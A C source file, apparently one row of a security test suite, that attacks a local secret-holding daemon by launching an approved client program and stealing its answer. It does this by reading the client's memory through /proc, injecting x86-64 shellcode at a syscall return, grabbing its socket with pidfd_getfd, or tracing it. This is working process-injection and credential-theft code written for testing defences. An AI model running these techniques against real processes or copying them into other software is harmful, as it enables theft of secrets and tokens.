/* Row 9: starts an approved program, as anybody may, and reaches into it.
 *
 *   attack-memory SOCKET TRIES APPROVED MODE
 *     read     reads the answer out of its memory (/proc/<pid>/mem)
 *     write    puts its own code where the program goes on after a system call (/proc/<pid>/mem)
 *     getfd    takes its connection with pidfd_getfd and reads the answer in its place
 *     trace    traces it from its first instruction on and reads its memory: a debugger that stays
 */
#include "attack-common.h"
#include <linux/sockios.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>

struct puppet { pid_t pid; int in, out; };

static struct puppet start(const char *path, const char *approved, const char *does, int traced)
{
    int in[2], out[2];
    struct puppet puppet;
    if (pipe2(in, O_CLOEXEC) != 0 || pipe2(out, O_CLOEXEC) != 0)
        die("pipe");
    puppet.pid = fork();
    if (puppet.pid == 0) {
        dup2(in[0], 0);
        dup2(out[1], 1);
        if (traced && ptrace(PTRACE_TRACEME, 0, 0, 0) != 0)
            _exit(1);
        execl(approved, approved, path, does, (char *)NULL);
        die("exec");
    }
    close(in[0]);
    close(out[1]);
    puppet.in = in[1];
    puppet.out = out[0];
    return puppet;
}

static void stop(struct puppet puppet)
{
    kill(puppet.pid, SIGKILL);
    close(puppet.in);
    close(puppet.out);
    waitpid(puppet.pid, NULL, 0);
}

static int open_memory(pid_t pid, int how)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    return open(path, how | O_CLOEXEC);
}

/* Finds the answer in its writable memory and prints it. */
static void search(pid_t pid)
{
    static char chunk[1 << 20];
    char path[64], line[1024], mode[8];
    unsigned long from, to;
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "re");
    int memory = open_memory(pid, O_RDONLY);
    if (maps == NULL || memory < 0) {
        report("its memory is closed");
        return;
    }
    int found = 0;
    while (!found && fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) != 3 || mode[1] != 'w')
            continue;
        size_t size = to - from < sizeof chunk ? to - from : sizeof chunk;
        ssize_t count = pread(memory, chunk, size, (off_t)from);
        char *at = count > 0 ? memmem(chunk, (size_t)count, "\"value\":\"", 9) : NULL;
        if (at != NULL) {
            dprintf(1, "heard %.80s\n", at);
            found = 1;
        }
    }
    if (!found)
        report("nothing in its memory");
    fclose(maps);
    close(memory);
}

/* What it says, a debugger letting it go on at each stop: it stops at every exec. */
static ssize_t hear_traced(struct puppet puppet, char *line, size_t size)
{
    struct pollfd said = { puppet.out, POLLIN, 0 };
    int status;
    while (poll(&said, 1, 1) <= 0)
        if (waitpid(puppet.pid, &status, WNOHANG) == puppet.pid && WIFSTOPPED(status))
            ptrace(PTRACE_CONT, puppet.pid, 0, WSTOPSIG(status) == SIGTRAP ? 0 : WSTOPSIG(status));
    return read(puppet.out, line, size);
}

static void read_memory(const char *path, const char *approved, int traced)
{
    char line[512];
    int status;
    struct puppet puppet = start(path, approved, "hold", traced);
    if (traced) {
        if (waitpid(puppet.pid, &status, 0) != puppet.pid)
            die("trace");
        if (WIFEXITED(status) || ptrace(PTRACE_CONT, puppet.pid, 0, 0) != 0) {
            report("it may not be traced");
            stop(puppet);
            return;
        }
    }
    ssize_t count = traced ? hear_traced(puppet, line, sizeof line - 1) : read(puppet.out, line, sizeof line - 1);
    line[count > 0 ? count : 0] = 0;
    if (strncmp(line, "ok", 2))
        report(line);
    else
        search(puppet.pid);
    stop(puppet);
}

#if defined(__x86_64__)
struct order { struct sockaddr_un address; unsigned long length; char request[256]; unsigned long request_length; };

static inline long call3(long number, long a, long b, long c)
{
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

/* Runs in the approved program, wherever it was put: it calls nobody and knows only its order. */
__attribute__((section("intruder"), noinline, used, no_stack_protector)) static void payload(struct order *order)
{
    char said[1024];
    long fd = call3(SYS_socket, AF_UNIX, SOCK_STREAM, 0);
    call3(SYS_connect, fd, (long)&order->address, (long)order->length);
    call3(SYS_write, fd, (long)order->request, (long)order->request_length);
    long count = call3(SYS_read, fd, (long)said, sizeof said);
    call3(SYS_write, 1, (long)said, count);
    call3(SYS_exit_group, 0, 0, 0);
}

extern char __start_intruder[], __stop_intruder[];

static void write_memory(const char *path, const char *approved)
{
    /* and rsp,-16; sub rsp,8; mov rdi,imm64 */
    unsigned char code[2048] = { 0x48, 0x83, 0xe4, 0xf0, 0x48, 0x83, 0xec, 0x08, 0x48, 0xbf };
    char file[64], text[256];
    struct order order = { .address = address_of(path), .length = sizeof(struct sockaddr_un), .request_length = strlen(READ_TOKEN) };
    unsigned long number, argument, pc;
    strcpy(order.request, READ_TOKEN);
    struct puppet puppet = start(path, approved, "wait", 0);
    snprintf(file, sizeof file, "/proc/%d/syscall", puppet.pid);
    for (;;) {
        int fd = open(file, O_RDONLY | O_CLOEXEC);
        ssize_t count = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
        if (fd >= 0)
            close(fd);
        if (count <= 0) {
            report("where it is cannot be seen");
            stop(puppet);
            return;
        }
        text[count] = 0;
        char *last = strrchr(text, ' ');
        if (sscanf(text, "%lu 0x%lx", &number, &argument) == 2 && number == SYS_read && argument == 0 && last && sscanf(last, " 0x%lx", &pc) == 1)
            break;
        sched_yield();
    }
    size_t length = (size_t)(__stop_intruder - __start_intruder), place = 18 + ((length + 15) & ~15UL);
    unsigned long at = pc + place;
    memcpy(code + 10, &at, sizeof at);
    memcpy(code + 18, __start_intruder, length);
    memcpy(code + place, &order, sizeof order);
    int memory = open_memory(puppet.pid, O_RDWR);
    if (place + sizeof order > sizeof code || memory < 0 || pwrite(memory, code, place + sizeof order, (off_t)pc) < 0) {
        report("its memory is closed");
    } else {
        if (write(puppet.in, "g\n", 2) != 2)
            die("go");
        report(hear(puppet.out, NULL, 20000));
    }
    if (memory >= 0)
        close(memory);
    stop(puppet);
}
#else
static void write_memory(const char *path, const char *approved)
{
    (void)path;
    (void)approved;
    die("this attack is written for x86-64");
}
#endif

/* The connection of a process that has an unread request lying with the daemon. */
static int steal(pid_t pid)
{
    int handle = (int)syscall(SYS_pidfd_open, pid, 0);
    for (;;) {
        for (int number = 3; number < 16; number++) {
            int waiting = 0, fd = (int)syscall(SYS_pidfd_getfd, handle, number, 0);
            if (fd < 0 && errno == EPERM)
                return -1;
            if (fd >= 0 && ioctl(fd, SIOCOUTQ, &waiting) == 0 && waiting > 0) {
                close(handle);
                return fd;
            }
            if (fd >= 0)
                close(fd);
        }
        sched_yield();
    }
}

static void take_connection(const char *path, const char *approved, pid_t server)
{
    struct puppet puppet = start(path, approved, "watch", 0);
    if (write(puppet.in, "1\n", 2) != 2 || strstr(hear(puppet.out, NULL, 20000), "ok") == NULL) {
        report("it was refused");
        stop(puppet);
        return;
    }
    freeze(server);
    if (write(puppet.in, "2\n", 2) != 2)
        die("ask");
    int fd = steal(puppet.pid);
    freeze(puppet.pid);
    thaw(server);
    report(fd < 0 ? "its descriptors are closed" : hear(fd, NULL, 20000));
    if (fd >= 0)
        close(fd);
    stop(puppet);
}

int main(int count, char **arguments)
{
    if (count < 5)
        return 2;
    const char *path = arguments[1], *approved = arguments[3], *mode = arguments[4];
    pid_t server = server_of(path);
    for (int tries = atoi(arguments[2]); tries > 0; tries--) {
        if (!strcmp(mode, "write"))
            write_memory(path, approved);
        else if (!strcmp(mode, "getfd"))
            take_connection(path, approved, server);
        else
            read_memory(path, approved, !strcmp(mode, "trace"));
    }
    return 0;
}
